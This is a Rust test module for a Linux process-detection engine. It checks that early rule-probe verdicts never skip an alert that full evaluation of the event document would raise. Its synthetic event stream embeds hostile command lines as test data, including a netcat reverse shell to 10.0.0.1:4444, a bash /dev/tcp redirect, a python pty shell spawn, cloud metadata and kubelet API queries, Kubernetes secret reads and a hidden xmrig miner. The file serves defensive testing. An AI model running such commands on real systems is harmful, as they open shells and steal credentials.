//! The stage skips a document only when no rule can match it: the probes' three-valued
//! verdicts agree with full evaluation of the built document, over the corpus and over
//! synthetic rules and snapshots built to find drift (odd bytes, empty values, missing
//! parents, containers or not).

use crate::ecs::DocBuilder;
use crate::ecs::probe_testkit::{Gen, ODD, builder, snapshots};
use crate::event::{EventKind, ProcessEvent};
use crate::host::{AgentInfo, HostInfo};
use crate::process::ProcessTable;
use crate::rules::{Rule, RuleSet, VerdictCache};

/// Fork, exec (of `argv`, in a container or not) and exit of one process under `parent`.
fn life(tgid: u32, parent: u32, t: u64, exe: &[u8], argv: &[&[u8]], c: bool) -> Vec<ProcessEvent> {
    let base = ProcessEvent {
        boot_ns: t,
        pid: tgid,
        tgid,
        ppid: parent,
        actor_pid: parent,
        cgroup_id: if c { 77 } else { 1 },
        cgroup_path: if c {
            format!("/system.slice/docker-{:064x}.scope", 0xabcdef_u64).into_bytes()
        } else {
            b"/system.slice/session-1.scope".to_vec()
        },
        pid_ns_ino: if c { 4026532001 } else { 4026531836 },
        mnt_ns_ino: if c { 4026532000 } else { 4026531841 },
        ns_pid: tgid,
        start_boot_ns: t,
        ..Default::default()
    };
    let fork = ProcessEvent {
        kind: Some(EventKind::Fork),
        comm: b"bash".to_vec(),
        exe_path: b"/usr/bin/bash".to_vec(),
        ..base.clone()
    };
    let exec = ProcessEvent {
        kind: Some(EventKind::Exec),
        boot_ns: t + 1,
        comm: argv
            .first()
            .copied()
            .unwrap_or(b"")
            .iter()
            .take(15)
            .copied()
            .collect(),
        filename: exe.to_vec(),
        exe_path: exe.to_vec(),
        argv: argv.iter().map(|a| a.to_vec()).collect(),
        ..base.clone()
    };
    let exit = ProcessEvent {
        kind: Some(EventKind::Exit),
        boot_ns: t + 2,
        exit_code: Some(0),
        ..exec.clone()
    };
    vec![fork, exec, exit]
}

fn table() -> ProcessTable {
    ProcessTable::events_only("6f1e2d3c-0000-4000-8000-00000000beef")
}

/// What one run of [`check_stream`] saw.
#[derive(Debug, Default)]
struct Seen {
    events: usize,
    matched: usize,
    skipped: usize,
    skipped_early: usize,
    known: usize,
    known_early: usize,
    rules: std::collections::BTreeSet<String>,
}

/// Feeds `events` through a process table as the stage does, but builds every document:
/// each rule's verdict on each probe (image and snapshot), when known, is its result on
/// the document; the stage's decisions (cached and not) never skip a match.
fn check_stream(rules: &RuleSet, events: &[ProcessEvent]) -> (Seen, u64) {
    let mut docs = builder();
    let mut table = table();
    let mut cache = VerdictCache::default();
    let mut seen = Seen::default();
    for ev in events {
        // The lineage probe's verdicts, taken where the stage takes them.
        let mut early: Vec<Option<bool>> = Vec::new();
        let mut may_early = true;
        let d = &docs;
        let Some(snap) = table.apply_if_lineage(ev, |lineage| {
            let probe = d.lineage_probe(*lineage);
            early = rules
                .rules()
                .iter()
                .map(|r| r.compiled.root.eval3(&probe))
                .collect();
            may_early = rules.may_match_probe(&probe);
            // The remembered verdict is the verdict.
            assert_eq!(rules.may_match_cached(&probe, &mut cache), may_early);
            true
        }) else {
            continue;
        };
        seen.events += 1;
        let doc = docs.build(&snap, Some(ev));
        let probe = docs.probe(&snap);
        for (r, early) in rules.rules().iter().zip(&early) {
            let m = r.matches(&doc);
            if let Some(b) = r.compiled.root.eval3(&probe) {
                seen.known += 1;
                assert_eq!(b, m, "{} on {ev:?}", r.query);
            }
            if let Some(b) = early {
                seen.known_early += 1;
                assert_eq!(*b, m, "{} (lineage probe) on {ev:?}", r.query);
            }
        }
        // Brute force: every rule over the whole document, no index.
        let out: Vec<&Rule> = rules.rules().iter().filter(|r| r.matches(&doc)).collect();
        let may = rules.may_match_probe(&probe);
        assert!(may || out.is_empty(), "skipped a match: {ev:?}");
        assert!(may_early || out.is_empty(), "skipped a match early: {ev:?}");
        assert!(may_early || !may, "the image probe knows less: {ev:?}");
        seen.matched += !out.is_empty() as usize;
        seen.rules.extend(out.iter().map(|r| r.query.clone()));
        seen.skipped += !may as usize;
        seen.skipped_early += !may_early as usize;
    }
    (seen, cache.hits())
}

/// The probes' three-valued verdicts agree with the built document for every rule of the
/// corpus and the shipped rule, and the stage's decision is never false for an event some
/// rule matches: skipping the document never loses an alert.
#[test]
fn probe_agrees_with_the_document() {
    use crate::testsupport::{Corpus, Need, corpus, require};
    if !require(
        "daemon::stage::tests::probe_agrees_with_the_document",
        &[Need::Corpus(Corpus::CloudDefend)],
    ) {
        return;
    }
    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../config/rules");
    let (rules, _) = RuleSet::load(
        &[corpus(Corpus::CloudDefend), shipped],
        crate::ecs::schema(),
    );
    assert!(rules.len() > 10, "corpus loaded: {}", rules.len());
    let (seen, hits) = check_stream(&rules, &corpus_stream());
    // The test means something: some events match, most of the rest are skipped.
    assert!(seen.matched >= 4, "{seen:?}");
    assert!(seen.rules.len() >= 8, "{seen:?}");
    assert!(seen.skipped * 2 > seen.events, "{seen:?}");
    assert!(seen.skipped_early * 2 > seen.events, "{seen:?}");
    assert!(seen.known > 1000, "{seen:?}");
    assert!(seen.known_early > 1000, "{seen:?}");
    assert!(hits > 50, "cached: {hits}");
}

/// [`probe_agrees_with_the_document`] with Elastic's Linux rules (every one that compiles),
/// whose many rules on the parent, the command line and the container the lineage probe
/// decides before any snapshot.
#[test]
fn probe_agrees_with_the_document_linux() {
    use crate::testsupport::{Corpus, Need, corpus, require};
    if !require(
        "daemon::stage::tests::probe_agrees_with_the_document_linux",
        &[Need::Corpus(Corpus::ElasticLinux)],
    ) {
        return;
    }
    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../config/rules");
    let (rules, _) = RuleSet::load(
        &[corpus(Corpus::ElasticLinux), shipped],
        crate::ecs::schema(),
    );
    assert!(rules.len() > 100, "corpus loaded: {}", rules.len());
    let (seen, hits) = check_stream(&rules, &corpus_stream());
    assert!(seen.matched >= 4, "{seen:?}");
    assert!(seen.rules.len() >= 4, "{seen:?}");
    // The stream is made to match: many events match some rule of 200.
    assert!(seen.skipped_early * 3 > seen.events, "{seen:?}");
    assert!(seen.known_early > 10_000, "{seen:?}");
    assert!(hits > 50, "cached: {hits}");
}

/// Processes of many kinds under shells on the host and in a container, under each other
/// and under an unknown parent: fork, exec and exit of each.
fn corpus_stream() -> Vec<ProcessEvent> {
    let programs: &[(&[u8], &[&[u8]])] = &[
        (b"/usr/bin/ssh", &[b"ssh", b"-V"]),
        (b"/usr/bin/ls", &[b"ls", b"-la", b"/tmp"]),
        (b"/usr/bin/bash", &[b"bash", b"-c", b"id; whoami"]),
        (b"/usr/bin/bash", &[b"bash", b"-i"]),
        (b"/usr/bin/perl", &[b"perl", b"-e", b"print 1"]),
        (
            b"/usr/bin/python3",
            &[b"python3", b"-c", b"import pty; pty.spawn('/bin/sh')"],
        ),
        (
            b"/usr/bin/curl",
            &[b"curl", b"http://169.254.169.254/latest/meta-data/"],
        ),
        (
            b"/usr/bin/cat",
            &[b"cat", b"/var/lib/kubelet/pki/kubelet.crt"],
        ),
        (
            b"/usr/bin/nc",
            &[b"nc", b"-e", b"/bin/sh", b"10.0.0.1", b"4444"],
        ),
        (b"/usr/bin/chmod", &[b"chmod", b"+x", b"/tmp/x"]),
        (b"/usr/bin/kubectl", &[b"kubectl", b"get", b"secrets"]),
        (b"/usr/bin/ss\xff", &[b"ss\xffh", b"\xff-V"]),
        (b"/usr/bin/base64", &[b"base64", b"-d", b"payload"]),
        (b"/tmp/.x/xmrig", &[b"xmrig", b"--donate-level", b"1"]),
        // Rules keyed on literals of patterns and regexes.
        (
            b"/usr/bin/curl",
            &[b"curl", b"-k", b"https://10.0.0.1:10250/pods"],
        ),
        (
            b"/usr/bin/ssh",
            &[b"ssh", b"-L", b"8080:10.0.0.1:80", b"user@10.0.0.2"],
        ),
        (
            b"/usr/bin/ssh",
            &[b"ssh", b"-o", b"PROXYCOMMAND=nc %h %p", b"host"],
        ),
        (b"/usr/local/bin/kubeletctl", &[b"kubeletctl", b"pods"]),
        (b"/usr/bin/.hidden", &[b".hidden"]),
        (b"/usr/bin/socat", &[b"socat", b"1.2.3.4:80:5.6.7.8:90"]),
        (
            b"/usr/bin/python3.11",
            &[b"python3", b"-c", b"import base64; base64.b64decode(x)"],
        ),
        (b"/usr/bin/nsenter", &[b"nsenter", b"--target=1", b"-m"]),
        (b"/usr/bin/caf\xc3\xa9", &[b"CAF\xc3\x89", b"-\xe2\x84\xaa"]),
    ];
    let mut events = Vec::new();
    let mut t = 1_000_000_000u64;
    // Two shells (host, container) and processes under them and under each other.
    events.extend(life(100, 1, t, b"/usr/bin/bash", &[b"bash"], false));
    events.extend(life(101, 1, t, b"/usr/bin/bash", &[b"bash"], true));
    events.retain(|e| e.kind != Some(EventKind::Exit));
    let mut tgid = 1000;
    for (i, (exe, argv)) in programs.iter().enumerate() {
        for c in [false, true] {
            for parent in [100 + c as u32, 1000 + i as u32, 99_999] {
                t += 1_000_000;
                tgid += 1;
                events.extend(life(tgid, parent, t, exe, argv, c));
            }
        }
    }
    // Commands run again and again with other numbers, some of which a rule wants (the
    // kubelet's port 10250, a forwarding spec, `hd0`): verdicts remembered by the
    // arguments' shape must hold for every run.
    let numbered: &[(&[u8], &str)] = &[
        (b"/usr/bin/sleep", "sleep {n}"),
        (b"/usr/bin/kill", "kill -{d} {n}"),
        (b"/usr/bin/curl", "curl -k https://10.0.0.{n}:1025{d}/pods"),
        (b"/usr/bin/kubeletctl", "kubeletctl pods 1025{d}"),
        (b"/usr/bin/ssh", "ssh -L 80{d}:10.0.0.{n}:80 user@10.0.0.2"),
        (b"/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 444{d}"),
        (b"/usr/bin/socat", "socat {n}.2.3.4:80:5.6.7.8:9{d}"),
        (b"/usr/bin/cat", "cat /proc/ide/hd{d}/model"),
        (
            b"/usr/bin/bash",
            "bash -c echo {n} > /dev/tcp/10.0.0.{d}/4444",
        ),
    ];
    for k in 0..12u32 {
        for (i, (exe, line)) in numbered.iter().enumerate() {
            let line = line
                .replace("{n}", &(k * 37 % 251).to_string())
                .replace("{d}", &(k % 10).to_string());
            let argv: Vec<&[u8]> = line.split(' ').map(str::as_bytes).collect();
            for c in [false, true] {
                let parent = [100 + c as u32, 1000 + i as u32][k as usize % 2];
                t += 1_000_000;
                tgid += 1;
                events.extend(life(tgid, parent, t, exe, &argv, c));
            }
        }
    }
    events
}

/// Rules over every field the probes read, written to catch a probe that renders a value
/// differently from the document: empty and missing values, lossy (U+FFFD) renderings,
/// case and Unicode folding, wildcards, negations (true on a missing field), fields the
/// probes cannot read, and the template fields.
const DRIFT_RULES: &[&str] = &[
    r#"process where process.name == "ssh""#,
    r#"process where process.name : "SSH""#,
    r#"process where process.name like~ "caf?""#,
    r#"process where process.name : "*\u{fffd}*""#,
    r#"process where process.name == "" or process.executable == "" or process.name == "x\u{00}y""#,
    r#"process where process.name != "bash" and process.parent.name != "bash""#,
    r#"process where not process.parent.executable : "/usr/*""#,
    r#"process where process.parent.name == null"#,
    r#"process where process.parent.args : "-*" and process.parent.name : ("ssh*", "bash")"#,
    r#"process where process.args == "" and container.id != null"#,
    r#"process where process.args : ("*\u{fffd}*", "x*y") and event.action == "exec""#,
    r#"process where process.args like "*\\*" or process.args == "*""#,
    r#"process where process.executable regex~ ".*/ss.?h?" and event.type == "start""#,
    r#"process where process.executable : "/usr/bin/*" and not process.name : "s*""#,
    r#"process where container.id == "" and process.name : "*a*""#,
    r#"process where container.id : "0*" and process.entry_leader.entry_meta.type == "container""#,
    r#"process where process.entry_leader.entry_meta.type in ("sshd", "terminal") and process.args_count >= 1"#,
    r#"process where event.action == "end" and process.parent.executable == null"#,
    r#"process where event.category == "process" and event.kind == "event" and process.name : "\u{212a}*""#,
    r#"process where event.module == "detector" and host.os.type == "linux" and process.name in ("ls", "sshd")"#,
    r#"process where process.command_line : "*-V*" and process.name == "ssh""#,
    r#"process where process.group_leader.name != null and process.name == "ls""#,
    r#"process where file.path == null and process.parent.args == "-i""#,
    r#"process where process.parent.command_line : "bash*" and process.args_count > 1"#,
    r#"process where process.previous.executable : "*/s*" and process.command_line == null"#,
    r#"process where process.parent.args_count == null and process.command_line : "*\u{fffd}*""#,
    r#"process where process.thread.capabilities.effective : "CAP_SET?ID" and user.id != "0""#,
    r#"process where process.interactive == true and process.thread.capabilities.permitted == null"#,
];

/// The drift rules, compiled: all in one set, then each alone (so every rule's index keys
/// and verdicts are exercised, not only the set's union).
fn drift_sets() -> Vec<RuleSet> {
    let schema = crate::ecs::schema();
    let rule = |q: &str| Rule {
        meta: Default::default(),
        query: q.into(),
        path: "test".into(),
        compiled: crate::rules::compile_query(q, schema).unwrap_or_else(|e| panic!("{q}: {e}")),
    };
    let mut sets = vec![RuleSet::new(
        DRIFT_RULES.iter().map(|q| rule(q)).collect(),
        schema,
    )];
    sets.extend(
        DRIFT_RULES
            .iter()
            .map(|q| RuleSet::new(vec![rule(q)], schema)),
    );
    sets
}

/// Each rule alone (all but `idle` of them) both matched and was skipped by the probes,
/// and `early` of them at least by the image probe: the checks were not vacuous.
fn assert_exercised(seen: &[Seen], idle: usize, early: usize) {
    let unused: Vec<_> = DRIFT_RULES
        .iter()
        .zip(&seen[1..])
        .filter(|(_, s)| s.matched == 0 || s.skipped == 0)
        .collect();
    assert!(unused.len() <= idle, "{unused:#?}");
    let skipped_early = seen[1..].iter().filter(|s| s.skipped_early > 0).count();
    assert!(
        skipped_early >= early,
        "{skipped_early} rules skipped early"
    );
}

/// Over thousands of synthetic snapshots: every rule's verdict on each probe, when known,
/// is its result on the built document, and when the document matches some rule both
/// probes said "may match".
#[test]
fn probes_never_skip_a_match_on_synthetic_snapshots() {
    let mut docs = builder();
    let snaps = snapshots(0xd1f7, 3000);
    let mut seen = Vec::new();
    for rules in drift_sets() {
        let mut s = Seen::default();
        for snap in &snaps {
            let doc = docs.build(snap, None);
            let late = docs.probe(snap);
            let early = docs.image_probe(&snap.subject.image, snap.kind);
            let lineage = docs.lineage_probe(crate::process::Lineage::of(snap));
            for r in rules.rules() {
                let m = r.matches(&doc);
                if let Some(b) = r.compiled.root.eval3(&late) {
                    s.known += 1;
                    assert_eq!(b, m, "{} (snapshot probe) on {snap:?}", r.query);
                }
                if let Some(b) = r.compiled.root.eval3(&lineage) {
                    assert_eq!(b, m, "{} (lineage probe) on {snap:?}", r.query);
                }
                if let Some(b) = r.compiled.root.eval3(&early) {
                    s.known_early += 1;
                    assert_eq!(b, m, "{} (image probe) on {snap:?}", r.query);
                }
            }

            // Brute force: every rule over the whole document, no index.
            let out: Vec<&Rule> = rules.rules().iter().filter(|r| r.matches(&doc)).collect();
            let may = rules.may_match_probe(&late);
            let may_early = rules.may_match_probe(&early);
            assert!(may || out.is_empty(), "skipped a match: {snap:?}");
            assert!(
                may_early || out.is_empty(),
                "skipped a match early: {snap:?}"
            );
            assert!(may_early || !may, "the image probe knows less: {snap:?}");
            let may_lineage = rules.may_match_probe(&lineage);
            assert!(
                may_lineage || out.is_empty(),
                "skipped a match (lineage): {snap:?}"
            );
            assert!(
                may_early || !may_lineage,
                "the image probe knows less: {snap:?}"
            );
            assert!(
                may_lineage || !may,
                "the lineage probe knows less: {snap:?}"
            );
            s.events += 1;
            s.matched += !out.is_empty() as usize;
            s.skipped += !may as usize;
            s.skipped_early += !may_early as usize;
        }
        seen.push(s);
    }
    assert_exercised(&seen, 0, DRIFT_RULES.len() / 2);
}

/// The same over event streams through the process table and the verdict cache: odd
/// programs under odd parents, on the host and in a container, parents never seen.
#[test]
fn stage_decisions_never_skip_a_match_on_synthetic_streams() {
    let mut g = Gen::new(0x57ea);
    let mut events = Vec::new();
    let mut t = 1_000_000_000u64;
    events.extend(life(100, 1, t, b"/usr/bin/bash", &[b"bash", b"-i"], false));
    events.extend(life(101, 1, t, b"/usr/bin/sshd", &[b"sshd"], true));
    events.retain(|e| e.kind != Some(EventKind::Exit));
    for tgid in 1000..1600u32 {
        t += 1_000_000;
        let exe = [b"/usr/bin/".as_slice(), *g.pick(ODD)].concat();
        let argv: Vec<&[u8]> = (0..g.below(4)).map(|_| *g.pick(ODD)).collect();
        let parent = *g.pick(&[100, 101, tgid - 1, 99_999]);
        let mut life = life(tgid, parent, t, &exe, &argv, g.below(2) == 0);
        // Some exits are never seen: their processes stay parents.
        if g.below(3) == 0 {
            life.pop();
        }
        events.extend(life);
    }
    let mut seen = Vec::new();
    for rules in drift_sets() {
        let (s, hits) = check_stream(&rules, &events);
        assert!(hits > 100, "cached: {hits}");
        seen.push(s);
    }
    // Streams have no empty container ids, no terminals, and odd names only.
    assert_exercised(&seen, DRIFT_RULES.len() / 5, DRIFT_RULES.len() / 2);
}

/// Image verdicts are remembered per rule set, event kind and whole image; a probe
/// without a key (too long) is decided every time.
#[test]
fn image_verdicts_follow_rules_kind_and_image() {
    let schema = crate::ecs::schema();
    let set = |q: &str| {
        let rule = Rule {
            meta: Default::default(),
            query: q.into(),
            path: "test".into(),
            compiled: crate::rules::compile_query(q, schema).unwrap(),
        };
        RuleSet::new(vec![rule], schema)
    };
    let ssh = set(r#"process where event.action == "exec" and process.name == "ssh""#);
    let ls = set(r#"process where event.action == "exec" and process.name == "ls""#);
    let exe = set(r#"process where process.executable == "/usr/bin/ssh""#);
    let host = HostInfo::collect(std::path::Path::new("/"));
    let docs = DocBuilder::new(&host, &AgentInfo::new(&host, None));
    let mut cache = VerdictCache::default();
    let image = |name: &[u8], exe: &[u8]| crate::process::ExecImage {
        name: name.to_vec(),
        executable: exe.to_vec(),
        args: vec![name.to_vec(), b"-V".to_vec()],
        args_truncated: false,
        ..Default::default()
    };
    let ssh_img = image(b"ssh", b"/usr/bin/ssh");
    let ls_img = image(b"ls", b"/usr/bin/ls");
    type Row<'r> = (&'r RuleSet, &'r crate::process::ExecImage, EventKind, bool);
    // (rules, image, kind, verdict), in order: repeated rows come from the cache.
    let rows: &[Row] = &[
        (&ssh, &ssh_img, EventKind::Exec, true),
        (&ssh, &ssh_img, EventKind::Exec, true),
        (&ssh, &ssh_img, EventKind::Fork, false),
        (&ssh, &ls_img, EventKind::Exec, false),
        (&ls, &ssh_img, EventKind::Exec, false),
        (&ls, &ls_img, EventKind::Exec, true),
        (&ssh, &ssh_img, EventKind::Exec, true),
        // Name and executable are kept apart in the key.
        (&exe, &image(b"ssh", b"/usr/bin/ssh"), EventKind::Fork, true),
        (
            &exe,
            &image(b"ssh/usr/bin", b"/ssh"),
            EventKind::Fork,
            false,
        ),
        (&exe, &image(b"ssh", b"/usr/bin/ssh"), EventKind::Exit, true),
    ];
    for (i, (rules, img, kind, want)) in rows.iter().enumerate() {
        let probe = docs.image_probe(img, *kind);
        assert_eq!(rules.may_match_cached(&probe, &mut cache), *want, "row {i}");
        assert_eq!(rules.may_match_probe(&probe), *want, "row {i} uncached");
    }
    // An image too big to remember is decided every time and never remembered (its
    // environment is in the coarse key too; big arguments alone are left out of that).
    let mut big = image(b"ssh", b"/usr/bin/ssh");
    big.args.push(vec![b'x'; 1 << 16]);
    big.env_vars.push(vec![b'x'; 1 << 16]);
    for _ in 0..2 {
        assert!(ssh.may_match_cached(&docs.image_probe(&big, EventKind::Exec), &mut cache));
    }
    assert_eq!(cache.hits(), 1, "only row 1 repeats within one set");
}
